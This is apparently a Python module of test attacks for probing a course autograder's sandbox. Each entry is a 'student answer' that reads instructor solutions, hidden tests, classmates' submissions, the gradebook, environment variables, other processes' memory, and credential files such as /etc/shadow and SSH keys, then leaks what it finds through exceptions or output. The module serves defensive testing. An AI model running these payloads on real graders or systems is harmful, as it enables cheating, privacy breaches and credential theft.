"""Attacks that read: solutions, hidden tests, secrets, classmates, the graders' memory."""

from . import course
from .attack import ANY_LOSS, Attack

_NOTEBOOK = f"{course.LESSON}.ipynb"
_BLANK = course.BLANK["summary"]


def _copied(source: str, name: str, what: str, **parts: object) -> Attack:
    """A wrong answer that is replaced if reading succeeds."""
    tried = "\n".join("    " + line if line else "" for line in source.splitlines())
    answer = f"{_BLANK}\n\ntry:\n{tried}\nexcept OSError as error:\n    print(error)\n"
    return Attack(name, "reading", what, answer=answer, **parts)  # type: ignore[arg-type]


def _told(body: str, name: str, what: str, before: str = "", **parts: object) -> Attack:
    """An answer that puts what it found in the text of an exception."""
    lines = "\n".join("    " + line if line else "" for line in body.splitlines())
    answer = f"{before}\n\ndef summary(numbers):\n{lines}\n    raise ValueError(found)\n"
    parts = {"outcomes": ANY_LOSS} | parts
    return Attack(name, "reading", what, answer=answer, **parts)  # type: ignore[arg-type]


#: In a process that grades: every text that a frame of the call holds, hidden tests among them.
_FRAMES = """\
import sys

found, frame = "", sys._getframe(1)
while frame is not None:
    for value in (*frame.f_locals.values(), *frame.f_globals.values()):
        if isinstance(value, dict) and "source" in value:
            value = value["source"]
        if isinstance(value, list) and value and isinstance(value[-1], str):
            value = value[-1]
        if isinstance(value, str) and ("summary(" in value or "wanted" in value):
            found += value + "\\n"
    frame = frame.f_back
"""

_WANTED_IN_FRAMES = """\
import sys


def summary(numbers):
    frame = sys._getframe(1)
    while frame is not None:
        for names in (frame.f_globals, frame.f_locals):
            wanted = names.get("wanted_summaries")
            if wanted:
                match = [w for w in wanted if w["count"] == len(numbers)]
                return match[0] if match else wanted[0]
        frame = frame.f_back
    return {"count": 3, "mean": 3.0}  # the visible test shows these
"""

_WATCHER = """\
import threading
import time
import sys

seen = {}


def watch():
    while True:
        for frame in sys._current_frames().values():
            while frame is not None:
                for names in (frame.f_globals, frame.f_locals):
                    for wanted in names.get("wanted_summaries") or ():
                        seen[wanted["count"]] = wanted
                frame = frame.f_back
        time.sleep(0.001)


threading.Thread(target=watch, daemon=True).start()


def summary(numbers):
    time.sleep(0.2)
    return seen.get(len(numbers), {"count": 3, "mean": 3.0})
"""

_TRACED = """\
import sys
import threading

seen = {}


def trace(frame, event, argument):
    for names in (frame.f_globals, frame.f_locals):
        for wanted in names.get("wanted_summaries") or ():
            seen[wanted["count"]] = wanted
    return trace


def summary(numbers):
    trace(sys._getframe(), "call", None)
    return seen.get(len(numbers), {"count": 3, "mean": 3.0})


"""

_SUMMARY_FROM_GARBAGE = """\
import gc


def summary(numbers):
    for names in gc.get_objects():
        if type(names) is dict and type(names.get("wanted_summaries")) is list:
            for wanted in names["wanted_summaries"]:
                if wanted["count"] == len(numbers):
                    return wanted
    return {"count": 3, "mean": 3.0}
"""

_AUDIT = """\
import sys

collected = []


def listen(event, arguments):
    if event in ("compile", "exec") and arguments and arguments[0]:
        source = arguments[0]
        if isinstance(source, bytes):
            source = source.decode(errors="replace")
        collected.append(str(source))


sys.addaudithook(listen)
"""

_MEMORY = """\
import os
import re

found = ""
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) == os.getpid():
        continue
    try:
        with open(f"/proc/{entry}/maps") as maps, open(f"/proc/{entry}/mem", "rb") as memory:
            for line in maps:
                match = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                if not match or int(match[2], 16) - int(match[1], 16) > 1 << 26:
                    continue
                memory.seek(int(match[1], 16))
                content = memory.read(int(match[2], 16) - int(match[1], 16))
                for hit in re.findall(rb"wanted_summaries = [ -~\\n]{20,300}", content)[:3]:
                    found += hit.decode() + "\\n"
                for hit in re.findall(rb"[a-z]+-secret-[0-9a-f]{16}", content)[:9]:
                    found += hit.decode() + "\\n"
    except (OSError, ValueError, OverflowError):
        pass
"""

_DESCRIPTORS = """\
import os

found = ""
for name in os.listdir("/proc/self/fd"):
    try:
        where = os.readlink("/proc/self/fd/" + name)
        found += f"{name} {where}\\n"
        if where.startswith("/") and not where.startswith("/dev"):
            found += os.pread(int(name), 2000, 0).decode(errors="replace")
            path = os.path.dirname(where)
            found += " ".join(os.listdir(path)[:50])
    except (OSError, ValueError):
        pass
"""

_OTHER_FILES = """\
import os

found = ""
for top in ("$COURSE/grading", "/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.getcwd() + "/.."):
    for folder, folders, files in os.walk(top):
        folders[:] = folders[:30]
        for file in files[:50]:
            if file.endswith((".ipynb", ".txt", ".db", ".json", ".py")):
                try:
                    with open(os.path.join(folder, file), "rb") as stream:
                        content = stream.read(200_000).decode(errors="replace")
                except OSError:
                    continue
                place = content.find("-secret-")
                if place >= 0:
                    found += content[max(0, place - 20) : place + 40] + "\\n"
"""

_ENVIRONMENT = """\
import os

found = str(dict(os.environ))
for entry in os.listdir("/proc"):
    try:
        with open(f"/proc/{entry}/environ", "rb") as stream:
            found += stream.read().decode(errors="replace")
    except OSError:
        pass
"""

_GRADEBOOK = """\
import sqlite3

found = ""
try:
    database = sqlite3.connect("file:$COURSE/grading/gradebook.db?mode=ro", uri=True)
    found += str(database.execute("select last_name from student").fetchall())
    for (source,) in database.execute("select source from source_cell").fetchall():
        found += source if "HIDDEN" in str(source) else ""
except sqlite3.Error as error:
    found += str(error)
"""

ATTACKS = (
    _copied(
        f"""\
import json

with open("$COURSE/notebooks/{_NOTEBOOK}") as stream:
    for cell in json.load(stream)["cells"]:
        if cell["id"] == "summary":
            exec("".join(cell["source"]))
""",
        "solution_from_disk",
        "executes the instructor's solution, read from notebooks/",
    ),
    _copied(
        f"""\
import json

with open("$COURSE/grading/submitted/ada/{_NOTEBOOK}") as stream:
    for cell in json.load(stream)["cells"]:
        if cell["metadata"].get("nbgrader", {{}}).get("grade_id") == "summary":
            exec("".join(cell["source"]))
""",
        "classmates_answer",
        "executes a classmate's answer, read from submitted/",
    ),
    _copied(
        f"""\
import json
import os
import time

end = time.monotonic() + 1
for top in ("$COURSE", "..", "../..", "../../..", "/tmp", "/home", "/root", "/srv", "/"):
    for folder, folders, files in os.walk(top):
        if time.monotonic() > end:
            break
        if "{course.STEM}.ipynb" in files:
            with open(os.path.join(folder, "{course.STEM}.ipynb")) as stream:
                for cell in json.load(stream)["cells"]:
                    if cell["id"] == "summary" and "mean" in "".join(cell["source"]):
                        exec("".join(cell["source"]))
""",
        "search_the_disk",
        "looks in all folders for a notebook of this name that has an answer",
    ),
    _told(
        'from pathlib import Path\n\nfound = Path("$COURSE/grading/answers/'
        f'{course.LESSON}.py").read_text()',
        "known_answers_from_disk",
        "puts the instructors' file of known answers into a message",
    ),
    _told(
        'from pathlib import Path\n\nfound = ""\nfor file in Path("$COURSE").rglob('
        '"01_fixture.json"):\n    found += file.read_text().replace("\\\\n", "\\n")',
        "exercise_bank_file",
        "puts the exercise bank, which holds hidden tests, into a message",
    ),
    _told(
        """\
from aicourse.lessons import exercises

found = ""
for lesson in exercises.lessons():
    for exercise in lesson.exercises:
        for test in exercise.tests:
            found += test.source if test.hidden else ""
""",
        "exercise_bank_package",
        "asks the course's package for all hidden tests",
    ),
    _told(
        _GRADEBOOK, "gradebook_read", "reads students' names and hidden tests from the gradebook"
    ),
    _told(_OTHER_FILES, "other_files", "looks for other submissions and notes in every folder"),
    _told(_ENVIRONMENT, "environment", "puts all environment variables into a message"),
    _told(_DESCRIPTORS, "descriptors_inherited", "reads every file descriptor that it inherited"),
    _told(_MEMORY, "memory_of_others", "searches the memory of all processes that it sees"),
    _told(
        'found = "\\n".join(In)\nfound += get_ipython().history_manager.input_hist_raw[-1]',
        "history",
        "puts IPython's history into a message",
    ),
    _told(
        'import linecache\n\nfound = ""\nfor name, entry in list(linecache.cache.items()):\n'
        '    if len(entry) > 2 and entry[2]:\n        text = "".join(entry[2])\n'
        '        found += text if "wanted" in text or "summary(" in text else ""',
        "linecache",
        "puts all cached sources into a message",
    ),
    _told(_FRAMES, "frames_source", "puts the source of the calling code into a message"),
    _told(
        "import inspect\n\nfound = ''\nfor info in inspect.stack()[1:]:\n"
        "    found += ''.join(info.code_context or ())\n    try:\n"
        "        found += inspect.getsource(info.frame)\n    except (OSError, TypeError):\n"
        "        pass",
        "inspect_stack",
        "puts the calling code, found by inspect, into a message",
    ),
    _told(
        'found = "\\n".join(collected[-5:])',
        "audit_hook",
        "listens to everything that is compiled",
        before=_AUDIT,
    ),
    _told(
        'import gc\n\nfound = ""\nfor item in gc.get_objects():\n    if type(item) is dict:\n'
        "        for value in list(item.values()):\n            if type(value) is str and "
        '("wanted_summaries" in value or "got_summaries" in value):\n'
        '                found += value + "\\n"',
        "garbage_source",
        "searches all objects for the text of tests",
    ),
    Attack(
        "frames_wanted",
        "reading",
        "returns the wanted values, found in the caller's frames",
        answer=_WANTED_IN_FRAMES,
        earned=1.0,
    ),
    Attack(
        "garbage_wanted",
        "reading",
        "returns the wanted values, found by the collector",
        answer=_SUMMARY_FROM_GARBAGE,
        earned=1.0,
    ),
    Attack(
        "thread_wanted",
        "reading",
        "a thread watches all frames for the wanted values",
        answer=_WATCHER,
        earned=1.0,
    ),
    Attack(
        "settrace",
        "reading",
        "a trace function collects the wanted values",
        answer=_TRACED + "sys.settrace(trace)\nthreading.settrace(trace)\n",
        earned=1.0,
    ),
    Attack(
        "setprofile",
        "reading",
        "a profile function collects the wanted values",
        answer=_TRACED + "sys.setprofile(trace)\nthreading.setprofile(trace)\n",
        earned=1.0,
    ),
    Attack(
        "monitoring",
        "reading",
        "sys.monitoring, or where Python has none an audit hook, collects the wanted values",
        answer=_TRACED
        + """
def on_line(code, line):
    trace(sys._getframe(1), "line", None)


if hasattr(sys, "monitoring"):
    sys.monitoring.use_tool_id(3, "watch")
    sys.monitoring.register_callback(3, sys.monitoring.events.LINE, on_line)
    sys.monitoring.set_events(3, sys.monitoring.events.LINE)
else:
    sys.addaudithook(
        lambda event, arguments: event == "exec" and trace(sys._getframe(1), "call", None)
    )
""",
        earned=1.0,
    ),
    Attack(
        "source_as_value",
        "reading",
        "returns the calling code as the value that the test's message shows",
        answer="def summary(numbers):\n"
        + "\n".join("    " + line if line else "" for line in _FRAMES.splitlines())
        + '\n    return {"count": len(numbers), "mean": float(len(found)), "text": found}\n',
        outcomes=ANY_LOSS,
    ),
    _told(
        _FRAMES + "import base64\n\nfound = base64.b64encode(found.encode()).decode()",
        "source_in_base64",
        "the calling code in a message, in base64",
    ),
    _told(
        _FRAMES + "found = found.encode().hex()",
        "source_in_hex",
        "the calling code in a message, in hexadecimal",
    ),
    _told(_FRAMES + "found = found[::-1]", "source_reversed", "the calling code, backwards"),
    Attack(
        "source_as_type_name",
        "reading",
        "the calling code as the name of an exception's class",
        answer="def summary(numbers):\n"
        + "\n".join("    " + line if line else "" for line in _FRAMES.splitlines())
        + "\n    raise type(found, (Exception,), {})\n",
        outcomes=ANY_LOSS,
    ),
    Attack(
        "source_as_type_of_value",
        "reading",
        "the calling code as the name of the returned object's class",
        answer="def summary(numbers):\n"
        + "\n".join("    " + line if line else "" for line in _FRAMES.splitlines())
        + "\n    return {'count': type(found[-60:], (), {})(), 'mean': 0.0}\n",
        outcomes=ANY_LOSS,
    ),
    Attack(
        "source_printed",
        "reading",
        "prints the calling code, to both streams and to their descriptors",
        answer="def summary(numbers):\n"
        + "\n".join("    " + line if line else "" for line in _FRAMES.splitlines())
        + "\n    import os\n\n    print(found)\n    print(found, file=sys.stderr)\n"
        "    for number in (1, 2):\n        os.write(number, found.encode())\n"
        "    return {'count': 0, 'mean': 0.0}\n",
        outcomes=ANY_LOSS,
    ),
    _told(
        'found = ""\nfor name in ("/etc/shadow", "$HOME/.ssh/id_ed25519", "$HOME/.netrc",'
        ' "$HOME/.bash_history", "$COURSE/grading/private.txt"):\n    try:\n'
        "        found += open(name).read()\n    except OSError as error:\n"
        "        found += type(error).__name__",
        "private_files",
        "puts the instructor's private files into a message",
    ),
)
